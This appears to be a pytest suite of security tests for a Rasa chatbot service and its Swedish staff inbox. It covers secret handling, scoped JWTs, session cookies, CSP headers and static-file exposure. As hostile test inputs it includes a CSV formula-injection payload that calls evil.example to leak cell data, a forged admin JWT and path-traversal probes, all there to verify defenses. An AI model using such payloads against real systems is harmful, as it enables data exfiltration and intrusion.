"""Issue 10 (medium and low): the Rasa API secret, the staff inbox, Teams, Slack and the web service.

Fast tests call the pieces directly (TestClient, the connectors' checks); the ones marked slow run
against the real stack (fixtures in conftest.py).
"""

from __future__ import annotations

import json
import os
import subprocess
import time
from pathlib import Path

import httpx
import pytest

ROOT = Path(__file__).resolve().parent.parent


# -- 1. Rasa's API secret: never on argv or in a URL ----------------------------------------------
def stack_settings(tmp_path, **overrides):
    from service.stack import StackSettings

    return StackSettings(log_dir=tmp_path / "log", **overrides)


def test_rasa_is_started_without_its_api_secret_on_the_command_line(tmp_path):
    from service.stack import Stack

    stack = Stack(stack_settings(tmp_path, rasa_api_token="configured-rasa-api-secret-0123"))
    rasa = next(p for p in stack.processes if p.name == "rasa")
    assert "configured-rasa-api-secret-0123" not in " ".join(rasa.command)
    assert not {"--auth-token", "-t", "--jwt-secret"} & set(rasa.command)
    assert rasa.command[1:4] == ["-m", "bot.launch", "run"] and "--enable-api" in rasa.command
    assert rasa.env["ASSISTANT_RASA_API_TOKEN"] == "configured-rasa-api-secret-0123"


def test_the_launcher_takes_the_secret_from_the_environment_only():
    from bot.launch import rasa_argv

    argv = rasa_argv(["run", "--enable-api"], {"ASSISTANT_RASA_API_TOKEN": "s" * 32})
    assert argv == ["rasa", "run", "--enable-api", "--jwt-secret=" + "s" * 32, "--jwt-method", "HS256"]
    # A generated secret may start with "-" (token_urlsafe): it must still reach Rasa as the option's value.
    # Rasa reads its options with argparse, like this parser; "--jwt-secret", "-x…" failed to start Rasa.
    import argparse

    parser = argparse.ArgumentParser()
    parser.add_argument("command")
    parser.add_argument("--enable-api", action="store_true")
    parser.add_argument("--jwt-secret")
    parser.add_argument("--jwt-method")
    dashed = rasa_argv(["run", "--enable-api"], {"ASSISTANT_RASA_API_TOKEN": "-" + "s" * 31})
    assert parser.parse_args(dashed[1:]).jwt_secret == "-" + "s" * 31
    assert rasa_argv(["run"], {}) == ["rasa", "run"]  # no API, no secret needed
    for bad in (["run", "--auth-token", "x"], ["run", "--jwt-secret=x"], ["run", "-t", "x"]):
        with pytest.raises(SystemExit):
            rasa_argv(bad, {"ASSISTANT_RASA_API_TOKEN": "s" * 32})
    with pytest.raises(SystemExit):  # the API never runs open
        rasa_argv(["run", "--enable-api"], {})


def test_the_inbox_jwt_names_one_conversation_and_expires():
    import jwt

    from service.rasa_api import rasa_api_jwt

    token = rasa_api_jwt("k" * 32, "web:abc", ttl=60)
    claims = jwt.decode(token, "k" * 32, algorithms=["HS256"])
    assert claims["user"] == {"username": "web:abc", "role": "user"}
    assert time.time() < claims["exp"] <= time.time() + 61
    with pytest.raises(jwt.ExpiredSignatureError):
        jwt.decode(rasa_api_jwt("k" * 32, "web:abc", now=time.time() - 3600), "k" * 32, algorithms=["HS256"])


@pytest.mark.slow
def test_rasa_api_secret_is_not_visible_and_the_inbox_credential_cannot_change_the_model(stack):
    secret = stack.settings.rasa_api_token.get_secret_value()
    rasa = next(p for p in stack.processes if p.name == "rasa")
    cmdline = Path(f"/proc/{rasa.popen.pid}/cmdline").read_bytes().decode(errors="replace")
    assert "bot.launch" in cmdline and secret not in cmdline  # what `ps` shows
    base = f"http://{stack.settings.rasa_host}:{stack.settings.rasa_port}"
    from conftest import rasa_api_headers

    # The old ?token= query no longer opens anything; a JWT for one conversation opens that one only.
    assert httpx.get(f"{base}/conversations/rest:someone/tracker", params={"token": secret},
                     timeout=30).status_code == 401
    assert httpx.get(f"{base}/conversations/rest:someone/tracker", headers=rasa_api_headers(stack, "rest:someone"),
                     timeout=30).status_code == 200
    assert httpx.get(f"{base}/conversations/rest:victim/tracker", headers=rasa_api_headers(stack, "rest:someone"),
                     timeout=30).status_code == 403
    assert httpx.put(f"{base}/model", json={"model_file": "/tmp/x.tar.gz"},
                     headers=rasa_api_headers(stack, "rest:someone"), timeout=30).status_code in (401, 403)
    forged = {"Authorization": "Bearer " + __import__("service.rasa_api", fromlist=["x"]).rasa_api_jwt(
        "not-the-secret-0123456789", "rest:someone", "admin")}
    assert httpx.put(f"{base}/model", json={"model_file": "/tmp/x.tar.gz"}, headers=forged,
                     timeout=30).status_code == 401


# -- the staff inbox (TestClient over a tiny index) -------------------------------------------------
STAFF = "staff-token-0123456789"


@pytest.fixture
def inbox_app(tiny_index, fake_embedder, tmp_path):
    from fastapi.testclient import TestClient

    from index.search import SearchEngine
    from service.app import create_app
    from service.settings import ServiceSettings

    def make(**overrides):
        settings = ServiceSettings(**{**tiny_index.model_dump(), "inbox_db": tmp_path / "inbox.sqlite3",
                                      "inbox_token": STAFF, "rasa_url": "http://127.0.0.1:9", **overrides})
        app = create_app(settings, engine_factory=lambda: SearchEngine.load(settings, fake_embedder))
        return TestClient(app), settings

    return make


def bearer(token: str = STAFF) -> dict:
    return {"Authorization": f"Bearer {token}"}


# -- 2. CSV formula injection ----------------------------------------------------------------------
def test_gaps_csv_neutralises_formulas(inbox_app):
    import csv
    import io

    from assistant.inbox import Inbox

    client, settings = inbox_app()
    inbox = Inbox(settings.inbox_db)
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"klicka")', "+1+1", "-2+3", "@SUM(A1:A9)"]
    for q in hostile:
        inbox.add_feedback("web:x", "bad", q, [])
    inbox.add_unanswered("web:x", "Vad gäller för = tecken?", "sv", None, None)
    with client:
        r = client.get("/api/inbox/gaps.csv", headers=bearer())
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.text)))
    questions = {row[1] for row in rows[1:]}
    assert questions >= {"'" + q for q in hostile}
    assert "Vad gäller för = tecken?" in questions  # ordinary text stays as it was
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
    from service.staff import csv_cell

    assert csv_cell("\t=1+1") == "'\t=1+1" and csv_cell("\rx") == "'\rx" and csv_cell(3) == 3


# -- 3. Inbox flood: limits on what users write, pages, cached transcripts -------------------------
def test_a_refused_or_failed_hand_over_is_told_to_the_user(tmp_path, monkeypatch):
    import asyncio
    import sqlite3

    from rasa_sdk import Tracker
    from rasa_sdk.executor import CollectingDispatcher

    from actions import actions as A
    from assistant.inbox import Inbox, InboxLimits
    from assistant.runtime import Runtime, set_runtime
    from assistant.settings import AssistantSettings

    settings = AssistantSettings(inbox_db=tmp_path / "inbox.sqlite3", inbox_handoffs_per_sender_hour=1)
    runtime = Runtime(settings, engine=object())
    set_runtime(runtime)
    try:
        def submit(lang="sv"):
            slots = {"language": lang, "last_question": "Hur skriver vi ett IOP-avtal?",
                     "handoff_contact": "anna@example.se", "handoff_confirm": "send"}
            t = Tracker("web:abc", slots, {"text": "anna@example.se", "intent": {"name": "inform"}}, [], False,
                        None, {}, "action_listen")
            d = CollectingDispatcher()
            events = asyncio.run(A.ActionSubmitHandoff().run(d, t, {}))
            return d.messages[0]["text"], events

        assert "ärende 1" in submit()[0]
        text, events = submit()  # over this conversation's limit
        assert "redan skickat flera" in text and len(runtime.inbox.handoffs()) == 1
        assert {e["name"] for e in events} == {"handoff_question", "handoff_contact", "handoff_confirm"}
        assert "already sent several" in submit("en")[0]

        def broken(*args, **kwargs):
            raise sqlite3.OperationalError("database is locked")

        monkeypatch.setattr(Inbox, "add_handoff", broken)
        text, _ = submit()
        assert "kunde inte sparas" in text and "ärende" not in text
        assert "could not be saved" in submit("en")[0]
    finally:
        set_runtime(None)


class FakeRasa:
    """Rasa's tracker endpoint: records the requests (path, query, Authorization)."""

    def __init__(self):
        from conftest import JsonHandler, serve

        calls = self.calls = []

        class Handler(JsonHandler):
            def do_GET(self):  # noqa: N802
                calls.append({"path": self.path, "auth": self.headers.get("Authorization")})
                sender = self.path.split("/")[2]
                self.reply_json({"events": [{"event": "user", "text": f"fråga från {sender}", "timestamp": 1.0}]})

        self.server, self.url = serve(Handler)


def test_inbox_pages_and_caches_transcripts(inbox_app):
    import jwt

    from assistant.inbox import Inbox

    rasa = FakeRasa()
    try:
        client, settings = inbox_app(rasa_url=rasa.url, rasa_api_token="rasa-api-secret-0123456789abcdefghij",
                                     inbox_page_size=3)
        inbox = Inbox(settings.inbox_db)
        for i in range(7):
            inbox.add_handoff(f"web:user{i}", f"fråga {i}", "a@example.se", "sv")
        with client:
            page = client.get("/api/inbox/requests", params={"limit": 3}, headers=bearer()).json()
            assert [r["id"] for r in page] == [7, 6, 5]
            assert page[0]["transcript"][0]["text"] == "fråga från web:user6"
            older = client.get("/api/inbox/requests", params={"limit": 3, "before": 5}, headers=bearer()).json()
            assert [r["id"] for r in older] == [4, 3, 2]
            assert len(rasa.calls) == 6  # only the conversations shown
            client.get("/api/inbox/requests", params={"limit": 3}, headers=bearer())
            assert len(rasa.calls) == 6  # again within the cache period: no call to Rasa
            html = client.get("/inbox", headers=bearer()).text
            assert "Ärende 7 " in html and "Ärende 4 " not in html and "/inbox?before=5" in html
            assert len(rasa.calls) == 6
            assert client.get("/api/inbox/requests/1", headers=bearer()).json()["transcript"][0]["text"] == \
                "fråga från web:user0"
        # Each call names one conversation in a short-lived JWT, in the header; nothing secret in the URL.
        for call in rasa.calls:
            assert "token" not in call["path"] and "?" not in call["path"]
            claims = jwt.decode(call["auth"].split()[1], "rasa-api-secret-0123456789abcdefghij", algorithms=["HS256"])
            assert claims["user"] == {"username": call["path"].split("/")[2], "role": "user"}
    finally:
        rasa.server.shutdown()


def test_gaps_are_counted_in_pages(inbox_app):
    from assistant.inbox import Inbox

    client, settings = inbox_app()
    inbox = Inbox(settings.inbox_db)
    for i in range(5):
        for _ in range(i + 1):
            inbox.add_unanswered(f"web:{i}{_}", f" fråga {i} ", "sv", None, None)
    inbox.add_feedback("web:x", "bad", "fråga 4", [])
    inbox.add_feedback("web:x", "good", "fråga 3", [])
    with client:
        first = client.get("/api/inbox/gaps", params={"limit": 2}, headers=bearer()).json()
        rest = client.get("/api/inbox/gaps", params={"limit": 10, "offset": 2}, headers=bearer()).json()
    assert [(g["kind"], g["question"], g["count"]) for g in first] == [("unanswered", "fråga 4", 5),
                                                                       ("unanswered", "fråga 3", 4)]
    assert [(g["kind"], g["question"], g["count"]) for g in rest][:1] == [("unanswered", "fråga 2", 3)]
    assert ("bad_answer", "fråga 4", 1) in [(g["kind"], g["question"], g["count"]) for g in rest]


# -- 7. The inbox database: WAL, and a reply stored with its status change -------------------------
def test_inbox_uses_wal_and_a_reply_is_atomic_with_the_status(tmp_path, inbox_app):
    import sqlite3

    import sqlalchemy.exc

    from assistant.inbox import Inbox

    client, settings = inbox_app()
    inbox = Inbox(settings.inbox_db)
    with sqlite3.connect(settings.inbox_db) as db:
        assert db.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
    request_id = inbox.add_handoff("web:a", "fråga", "a@example.se", "sv")
    # The status change fails (a trigger stands in for a crash or a locked row): the reply is not kept either.
    with sqlite3.connect(settings.inbox_db) as db:
        db.execute("CREATE TRIGGER no_answer BEFORE UPDATE ON handoff_requests "
                   "BEGIN SELECT RAISE(ABORT, 'status locked'); END")
    # The inbox reaches its database through SQLAlchemy, which wraps the driver's error.
    with client, pytest.raises(sqlalchemy.exc.IntegrityError):
        client.post(f"/api/inbox/requests/{request_id}/reply", json={"text": "Hej!"}, headers=bearer())
    assert inbox.staff_messages("web:a") == [] and inbox.handoffs()[0].status == "open"
    with sqlite3.connect(settings.inbox_db) as db:
        db.execute("DROP TRIGGER no_answer")
    with client:
        r = client.post(f"/api/inbox/requests/{request_id}/reply", json={"text": "Hej!"}, headers=bearer())
        assert r.json()["sender_id"] == "web:a"
        assert client.post("/api/inbox/requests/999/reply", json={"text": "Hej!"}, headers=bearer()).status_code == 404
    assert [m.text for m in inbox.staff_messages("web:a")] == ["Hej!"] and inbox.handoffs()[0].status == "answered"


# -- 4. Staff login: random server-side sessions, revoked on logout, throttled --------------------
def login(client, token=STAFF, **headers):
    return client.post("/inbox/login", data={"token": token}, headers=headers, follow_redirects=False)


def test_staff_sessions_are_random_revocable_and_flagged(inbox_app):
    import hashlib

    client, _ = inbox_app()
    with client:
        first, second = login(client), login(client)
        assert first.status_code == second.status_code == 303
        cookie = first.cookies["inbox_session"]
        assert cookie != second.cookies["inbox_session"]  # a new random session each time
        assert cookie != hashlib.sha256(("inbox:" + STAFF).encode()).hexdigest() and STAFF not in cookie
        flags = first.headers["set-cookie"].lower()
        assert "httponly" in flags and "samesite=strict" in flags and "max-age=43200" in flags
        assert "secure" not in flags  # plain http, setting off
        client.cookies.clear()
        assert client.get("/api/inbox/gaps", cookies={"inbox_session": cookie}).status_code == 200
        out = client.post("/inbox/logout", cookies={"inbox_session": cookie}, follow_redirects=False)
        assert out.status_code == 303
        client.cookies.clear()
        # The old cookie, sent again after logout, opens nothing; the other session still works.
        assert client.get("/api/inbox/gaps", cookies={"inbox_session": cookie}).status_code == 401
        assert client.get("/api/inbox/gaps", cookies={"inbox_session": second.cookies["inbox_session"]}).status_code == 200


def test_staff_cookie_is_secure_over_https_and_expires(inbox_app):
    from fastapi.testclient import TestClient

    client, _ = inbox_app(inbox_session_hours=10 / 3600)
    clock = [1000.0]  # the sessions' clock, moved by the test (no sleeping, no timing flakes)
    client.app.state.staff_sessions.clock = lambda: clock[0]
    with TestClient(client.app, base_url="https://inbox.example") as https:
        r = login(https)
        assert r.status_code == 303, r.text
        assert "secure" in r.headers["set-cookie"].lower()
        cookie = r.cookies["inbox_session"]
        https.cookies.clear()
        assert https.get("/api/inbox/gaps", cookies={"inbox_session": cookie}).status_code == 200
        clock[0] += 9
        assert https.get("/api/inbox/gaps", cookies={"inbox_session": cookie}).status_code == 200
        clock[0] += 2
        assert https.get("/api/inbox/gaps", cookies={"inbox_session": cookie}).status_code == 401  # expired
    client2, _ = inbox_app(inbox_secure_cookie=True)
    with client2:
        assert "secure" in login(client2).headers["set-cookie"].lower()


def test_failed_logins_are_throttled_and_non_ascii_tokens_are_refused_not_500(inbox_app):
    client, _ = inbox_app(inbox_login_failures=3)
    with client:
        assert login(client, "fel-nyckel-åäö-😀").headers["location"] == "/inbox?fel=1"
        assert client.get("/api/inbox/gaps", headers={"Authorization": "Bearer åäö".encode()}).status_code == 401
        assert client.get("/api/inbox/gaps", headers={"Authorization": "Bearer wrong"}).status_code == 401
        # Three wrong tokens from this address: now even the right one waits.
        r = login(client)
        assert r.status_code == 429 and int(r.headers["retry-after"]) > 0
        assert client.get("/api/inbox/gaps", headers=bearer()).status_code == 429
    other, _ = inbox_app(inbox_token="nyckel-med-åäö-0123456789")
    with other:
        assert login(other, "nyckel-med-åäö-0123456789").status_code == 303
        assert other.get("/api/inbox/gaps", headers={"Authorization": "Bearer nyckel-med-åäö-0123456789".encode()}
                         ).status_code == 200


def test_state_changing_inbox_routes_refuse_other_origins(inbox_app):
    client, _ = inbox_app()
    with client:
        assert login(client, Origin="https://evil.example").status_code == 403
        assert login(client, Origin="http://testserver").status_code == 303


# -- 5. Teams: the JWT validator called directly (in Rasa's environment, against a local fake Microsoft) --
VALIDATOR_SCRIPT = r"""
import asyncio, json, sys
from bot.connectors.teams import JwtValidator

cases = json.load(sys.stdin)

async def main():
    out = {}
    for name, case in cases.items():
        validator = JwtValidator(case["app_id"], case["openid"])
        reasons = []
        for token in case["tokens"]:
            reasons.append(await validator.validate(f"Bearer {token}", case["service_url"]))
        out[name] = reasons
    print(json.dumps(out))

asyncio.run(main())
"""


def validate_in_rasa_env(cases: dict) -> dict:
    python = ROOT / ".venv-rasa" / "bin" / "python"
    if not python.exists():
        pytest.fail(f"Rasa is not installed at {python.parent.parent}: run `make rasa-env`")
    env = {**os.environ, "RASA_TELEMETRY_ENABLED": "false", "PYTHONPATH": str(ROOT)}
    done = subprocess.run([str(python), "-c", VALIDATOR_SCRIPT], input=json.dumps(cases), capture_output=True,
                          text=True, timeout=120, cwd=ROOT, env=env)
    assert done.returncode == 0, done.stderr[-2000:]
    return json.loads(done.stdout.strip().splitlines()[-1])


def test_teams_validator_requires_serviceurl_limits_refetches_and_pins_the_issuer():
    from conftest import TEAMS_APP_ID, FakeMicrosoft

    fake, no_issuer = FakeMicrosoft(), FakeMicrosoft()
    no_issuer.issuer = None
    try:
        def case(f, tokens, service_url=None):
            return {"app_id": TEAMS_APP_ID, "openid": f.url + "/openid", "tokens": tokens,
                    "service_url": service_url or f.url}

        out = validate_in_rasa_env({
            "good": case(fake, [fake.token(), fake.token(serviceurl=fake.url + "/")]),
            "no serviceurl": case(fake, [fake.token(serviceurl=None)]),
            "other serviceurl": case(fake, [fake.token()], service_url="https://evil.example"),
            "random kids": case(fake, [fake.token(kid=f"random-{i}") for i in range(20)] + [fake.token()]),
            "no issuer": case(no_issuer, [no_issuer.token(), no_issuer.token(iss="https://evil.example")]),
        })
    finally:
        fake.server.shutdown()
        no_issuer.server.shutdown()
    assert out["good"] == [None, None]
    assert out["no serviceurl"] == ["Token has no serviceurl claim."]
    assert out["other serviceurl"] == ["Token was issued for another service URL."]
    assert out["random kids"][:20] == ["Unknown signing key."] * 20 and out["random kids"][20] is None
    # good: 1 fetch; other serviceurl: 1; random kids: 1 at first + at most 1 forced (not one per unknown kid)
    assert fake.key_fetches <= 4
    assert out["no issuer"] == ["Signing keys unavailable.", "Signing keys unavailable."]  # fails closed


# -- 6. Slack: a retried event is processed once ---------------------------------------------------
SEEN_SCRIPT = r"""
import json
from bot.connectors.slack import SeenEvents

seen = SeenEvents(ttl=60, max_entries=3)
out = [seen.first_time("a", now=0), seen.first_time("a", now=10), seen.first_time("b", now=20),
       seen.first_time("a", now=61),  # a's entry expired: a delivery an hour later is new
       seen.first_time("c", now=62), seen.first_time("d", now=63), seen.first_time("e", now=64),
       seen.first_time("b", now=65)]  # b was dropped to keep at most 3 entries
print(json.dumps(out))
"""


def test_slack_seen_events_expire_and_stay_bounded():
    python = ROOT / ".venv-rasa" / "bin" / "python"
    env = {**os.environ, "RASA_TELEMETRY_ENABLED": "false", "PYTHONPATH": str(ROOT)}
    done = subprocess.run([str(python), "-c", SEEN_SCRIPT], capture_output=True, text=True, timeout=120, cwd=ROOT,
                          env=env)
    assert done.returncode == 0, done.stderr[-2000:]
    assert json.loads(done.stdout.strip().splitlines()[-1]) == [True, False, True, True, True, True, True, True]


# -- 7. The web service's pages: files, docs, CSP; the web chat socket's origins ------------------
@pytest.fixture
def web_dir(tmp_path):
    web = tmp_path / "web"
    for name, text in {"index.html": "<!doctype html><title>chat</title>", "chat.js": "//", "chat.css": "",
                       "vendor/socket.io.min.js": "//", "package.json": "{}", "package-lock.json": "{}",
                       "node_modules/socket.io-client/package.json": "{}", "node_modules/x/dist/x.js": "//",
                       ".env": "SECRET=1"}.items():
        (web / name).parent.mkdir(parents=True, exist_ok=True)
        (web / name).write_text(text, encoding="utf-8")
    return web


def test_static_serves_the_pages_files_only(inbox_app, web_dir):
    client, _ = inbox_app(web_dir=web_dir)
    with client:
        for ok in ("/static/chat.js", "/static/chat.css", "/static/vendor/socket.io.min.js"):
            assert client.get(ok).status_code == 200, ok
        for hidden in ("/static/node_modules/socket.io-client/package.json", "/static/node_modules/x/dist/x.js",
                       "/static/package.json", "/static/package-lock.json", "/static/.env",
                       "/static/vendor/../node_modules/x/dist/x.js"):
            assert client.get(hidden).status_code == 404, hidden


def test_docs_come_from_the_package_under_a_strict_policy_and_html_pages_have_a_csp(inbox_app, web_dir):
    client, _ = inbox_app(web_dir=web_dir, webchat_socket_url="https://chat.example.se")
    with client:
        assert client.get("/redoc").status_code == 404 and client.get("/openapi.json").status_code == 200
        for path in ("/", "/inbox", "/docs"):
            r = client.get(path)
            policy = r.headers["content-security-policy"]
            assert "script-src 'self'" in policy or "default-src 'none'" in policy, path
            assert "cdn" not in policy and "unsafe-inline" not in policy and "unsafe-eval" not in policy, path
        assert "connect-src 'self' https://chat.example.se wss://chat.example.se" in \
            client.get("/").headers["content-security-policy"]
        assert "frame-ancestors 'none'" in client.get("/inbox").headers["content-security-policy"]
        assert "content-security-policy" not in client.get("/static/chat.js").headers
        # /docs: Swagger UI from the installed package (no CDN, no inline script), never framed.
        docs = client.get("/docs")
        assert docs.status_code == 200 and "http" not in docs.text.replace('lang="en"', "")
        assert "<script>" not in docs.text and "frame-ancestors 'none'" in docs.headers["content-security-policy"]
        scripts = [part.split('"')[0] for part in docs.text.split('<script src="')[1:]]
        assert scripts == ["/docs/assets/swagger-ui-bundle.js", "/docs/swagger-init.js"]
        bundle = client.get(scripts[0])
        assert bundle.status_code == 200 and len(bundle.content) > 500_000 and "SwaggerUIBundle" in bundle.text
        assert client.get("/docs/assets/swagger-ui.css").headers["content-type"].startswith("text/css")
        for hidden in ("/docs/assets/index.html", "/docs/assets/swagger-ui-bundle.js.map",
                       "/docs/assets/..%2F__init__.py", "/docs/assets/oauth2-redirect.html"):
            assert client.get(hidden).status_code == 404, hidden
    off, _ = inbox_app(api_docs=False)
    with off:
        assert off.get("/docs").status_code == 404 and off.get("/docs/assets/swagger-ui-bundle.js").status_code == 404


def test_every_response_has_the_usual_security_headers(inbox_app, web_dir):
    client, _ = inbox_app(web_dir=web_dir)
    with client:
        for path in ("/", "/inbox", "/docs", "/p/none", "/openapi.json", "/static/chat.js", "/api/documents"):
            r = client.get(path)
            assert r.headers["x-content-type-options"] == "nosniff", path
            # same-origin, not no-referrer: with no-referrer a browser's form POST carries Origin: null and
            # the inbox's Origin check refuses the login (test_web.py's browser tests caught that)
            assert r.headers["referrer-policy"] == "same-origin", path
        for path in ("/inbox", "/docs", "/p/none"):  # HTML pages nobody needs to frame
            r = client.get(path)
            assert r.headers["x-frame-options"] == "DENY", path
            assert "frame-ancestors 'none'" in r.headers["content-security-policy"], path
            assert r.headers["cross-origin-opener-policy"] == "same-origin", path
            assert "camera=()" in r.headers["permissions-policy"], path
        chat = client.get("/")  # embed.js shows the chat page in an iframe on the host's site
        assert "x-frame-options" not in chat.headers and "frame-ancestors" not in chat.headers["content-security-policy"]
        assert chat.headers["cross-origin-opener-policy"] == "same-origin"


def test_the_web_chat_socket_accepts_the_pages_origin_only(tmp_path):
    import yaml

    from service.stack import write_credentials

    channels = yaml.safe_load(write_credentials(stack_settings(tmp_path, port=8123)).read_text(encoding="utf-8"))
    origins = channels["bot.connectors.webchat.WebChatInput"]["cors_allowed_origins"]
    assert origins == "http://127.0.0.1:8123,http://localhost:8123"
    configured = stack_settings(tmp_path, webchat_allowed_origins="https://www.kommun.se, https://chat.kommun.se/")
    assert yaml.safe_load(write_credentials(configured).read_text(encoding="utf-8"))[
        "bot.connectors.webchat.WebChatInput"]["cors_allowed_origins"] == "https://www.kommun.se,https://chat.kommun.se"
    assert "*" not in (ROOT / "docker" / "credentials.yml").read_text(encoding="utf-8")


@pytest.mark.slow
def test_the_running_web_chat_socket_refuses_other_origins(stack):
    base = f"http://{stack.settings.rasa_host}:{stack.settings.rasa_port}/socket.io/?EIO=4&transport=polling"
    page = f"http://{stack.settings.host}:{stack.settings.port}"
    assert httpx.get(base, headers={"Origin": "https://evil.example"}, timeout=30).status_code == 400
    ok = httpx.get(base, headers={"Origin": page}, timeout=30)
    assert ok.status_code == 200 and ok.headers.get("access-control-allow-origin") == page
